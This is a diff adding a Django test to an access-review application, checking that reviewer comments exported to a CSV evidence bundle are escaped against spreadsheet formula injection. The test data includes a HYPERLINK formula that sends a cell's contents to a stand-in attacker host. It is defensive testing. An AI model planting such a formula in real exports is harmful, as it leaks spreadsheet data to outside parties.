@@ -212,3 +212,37 @@ def test_the_command_opens_the_due_campaign_once(acme: Acme) -> None:
     assert first["opened"] is not None and first["grants"] == 5
     assert second["opened"] is None
     assert AccessReview.objects.filter(workspace=acme.workspace).count() == 1
+
+
+@pytest.mark.django_db
+def test_a_comment_a_spreadsheet_would_run_is_written_as_text(acme: Acme) -> None:
+    """The auditor opens decisions.csv in a spreadsheet: a reviewer's comment starting with
+    `=`, `+`, `-` or `@` must not run there as a formula (CSV injection). It keeps its words,
+    behind an apostrophe, as in every other export."""
+    carla = acme.actor("carla")
+    review = open_campaign(
+        actor=carla,
+        title="Alder Q4",
+        due_on=timezone.localdate() + timedelta(days=10),
+        practices=[acme.a],
+        reviewers={acme.a: acme.people["rita"]},
+    )
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"details")'
+    decide(
+        actor=acme.actor("rita"),
+        item=review.items.get(username="bob"),
+        decision=AccessDecision.REVOKED,
+        comment=hostile,
+    )
+    for item in review.items.filter(decision=""):
+        decide(actor=carla, item=item, decision=AccessDecision.CONFIRMED, comment="@SUM(1)")
+    locked = lock(carla, review)
+    with zipfile.ZipFile(io.BytesIO(bytes(locked.evidence))) as bundle:
+        files = {name: bundle.read(name) for name in bundle.namelist()}
+    comments = {r["username"]: r["comment"] for r in _rows(files, "decisions.csv")}
+    assert comments["bob"] == "'" + hostile
+    assert comments["olive"] == "'@SUM(1)"
+    assert not any(c.startswith(("=", "+", "-", "@")) for c in comments.values())
+    # The bundle stays reproducible and its hash is still the stored bytes' hash.
+    assert evidence_bundle(AccessReview.objects.get(pk=locked.pk)) == bytes(locked.evidence)
+    assert locked.evidence_sha256 == hashlib.sha256(bytes(locked.evidence)).hexdigest()
